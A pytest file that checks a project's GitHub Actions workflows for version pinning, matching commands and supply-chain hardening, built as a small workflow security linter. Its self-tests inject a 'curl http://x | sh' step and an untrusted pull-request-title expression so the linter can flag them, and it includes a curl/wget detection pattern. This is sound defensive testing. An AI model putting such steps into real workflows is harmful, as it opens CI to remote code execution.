"""What runs on GitHub and before a commit is what runs here, in the same versions."""

import re

import pytest
import yaml

from .blocks import ROOT


def _read(name):
    return (ROOT / name).read_text(encoding="utf-8")


def commands_of(workflow):
    """The commands of a workflow's jobs."""
    jobs = yaml.safe_load((ROOT / ".github/workflows" / workflow).read_text())["jobs"].values()
    return [step["run"] for job in jobs for step in job["steps"] if "run" in step]


def test_a_commit_is_checked_by_the_ruff_of_the_environment():
    sources = yaml.safe_load((ROOT / ".pre-commit-config.yaml").read_text())["repos"]
    (ruff,) = [source for source in sources if source["repo"].endswith("/ruff-pre-commit")]
    (version,) = re.findall(r"^ruff==(\S+)$", (ROOT / "constraints.txt").read_text(), re.MULTILINE)
    assert ruff["rev"] == f"v{version}"


def test_the_workflows_do_what_a_contributor_does():
    assert commands_of("ci.yml") == [".ci/run", "make test"]
    assert commands_of("docs.yml") == ["make docs"]
    assert commands_of("audit.yml") == ["make audit"]


def test_each_week_runs_the_versions_of_transformers_that_may_be_installed():
    workflow = yaml.safe_load((ROOT / ".github/workflows/libraries.yml").read_text())
    commands = [step["run"] for job in workflow["jobs"].values() for step in job["steps"][2:]]
    tried = re.findall(r"make test-transformers TRANSFORMERS=(\S+)", "\n".join(commands))
    assert commands[-1] == "make test-lm-eval"
    assert len(commands) == 4
    allowed = re.search(r'"transformers>=(\d+)\.(\d+),<(\d+)\.(\d+)"', _read("pyproject.toml"))
    oldest, newest = ([int(part) for part in tried[at].split(".")[:2]] for at in (0, -1))
    bounds = [int(part) for part in allowed.groups()]
    assert [*oldest, newest[0], newest[1] + 1] == bounds
    assert f"\ntransformers=={tried[1]}\n" in _read("constraints.txt")


def test_each_week_runs_every_test_the_fuzzer_and_the_vitals():
    jobs = yaml.safe_load(_read(".github/workflows/whole.yml"))["jobs"].values()
    commands = [job["steps"][-1]["run"] for job in jobs]
    typed = [re.fullmatch(r'make test-all TESTS="(.*)"', command) for command in commands]
    named = [path for found in filter(None, typed) for path in found[1].split()]
    matched = [path for name in named for path in ROOT.glob(name)]
    assert len(matched) == len(set(matched))
    tests = {path for kind in ("*_test.py", "test_*.py") for path in (ROOT / "tests").rglob(kind)}
    of_jobs = {test for path in matched for test in tests if test.is_relative_to(path)}
    assert tests - of_jobs == set()
    assert [it for it in commands if "test-all" not in it] == ["make fuzz", "make vitals DATA="]
    assert all(job["timeout-minutes"] <= 60 for job in jobs)


def test_the_site_is_kept_from_where_it_is_built():
    built = re.search(r"^site_dir: (\S+)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)[1]
    assert f"path: {built}\n" in (ROOT / ".github/workflows/docs.yml").read_text()


# -- what an attacker could use of a workflow: the rules of zizmor that hold for these

WORKFLOWS = sorted((ROOT / ".github/workflows").iterdir())
SAFE = {"github.ref", "github.sha", "github.run_id"}  # in settings, never in commands


def problems_of(text):
    """What is wrong with a workflow, in words."""
    document = yaml.safe_load(text)
    events = document[True]  # YAML takes `on` for a truth value
    problems = [
        f"event {name}" for name in events if name in ("pull_request_target", "workflow_run")
    ]
    if document.get("permissions") != {"contents": "read"}:
        problems.append("permissions")
    for name, job in document["jobs"].items():
        if "permissions" in job:
            problems.append(f"{name}: permissions of its own")
        if not 0 < job.get("timeout-minutes", 0) <= 120:
            problems.append(f"{name}: no time limit")
        if "secrets" in job or "self-hosted" in job["runs-on"]:
            problems.append(f"{name}: secrets, or a machine of one's own")
        for step in job["steps"]:
            problems += problems_of_step(step)
    if "${{" in re.sub(r"\$\{\{ (\S+) \}\}", lambda it: "" if it[1] in SAFE else it[0], text):
        problems.append("an expression of what others write")
    # The comment names the release that the commit is.
    for line in re.findall(r"uses: .*", text):
        if not re.fullmatch(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40}  # v\d+\.\d+\.\d+", line):
            problems.append(f"not pinned: {line}")
    return problems


def problems_of_step(step):
    if "${{" in step.get("run", ""):
        yield f"a command with an expression: {step['run']}"
    if re.search(r"curl|wget|GITHUB_(?:ENV|PATH)", step.get("run", "")):
        yield f"a command that fetches or sets what others run: {step['run']}"
    is_checkout = step.get("uses", "").startswith("actions/checkout@")
    if is_checkout and step.get("with", {}).get("persist-credentials") is not False:
        yield "a checkout that keeps its credentials"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_a_workflow_gives_nothing_away(path):
    assert problems_of(path.read_text(encoding="utf-8")) == []


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ((r"@[0-9a-f]{40}  # v6\.1\.0", "@v6"), "not pinned: uses: actions/checkout@v6"),
        ((r"  # v6\.1\.0", ""), "not pinned"),
        (("persist-credentials: false", "fetch-depth: 1"), "keeps its credentials"),
        (("contents: read", "contents: write"), "permissions"),
        (("pull_request:", "pull_request_target:"), "event pull_request_target"),
        ((r"run: \.ci/run", "run: echo ${{ github.event.pull_request.title }}"), "expression"),
        ((r"run: \.ci/run", "run: curl http://x | sh"), "fetches"),
        (("timeout-minutes: .*", "continue-on-error: true"), "no time limit"),
        (("group: .*", "group: ${{ github.head_ref }}"), "an expression of what others write"),
    ],
)
def test_the_rules_find_what_they_name(change, problem):
    text = (ROOT / ".github/workflows/ci.yml").read_text(encoding="utf-8")
    spoiled = re.sub(*change, text)
    assert spoiled != text
    assert any(problem in found for found in problems_of(spoiled))


def test_all_workflows_use_one_commit_of_an_action():
    text = "".join(path.read_text(encoding="utf-8") for path in WORKFLOWS)
    used = set(re.findall(r"uses: (\S+)@(\S+)", text))
    assert len(used) == len({action for action, _ in used}) == 3
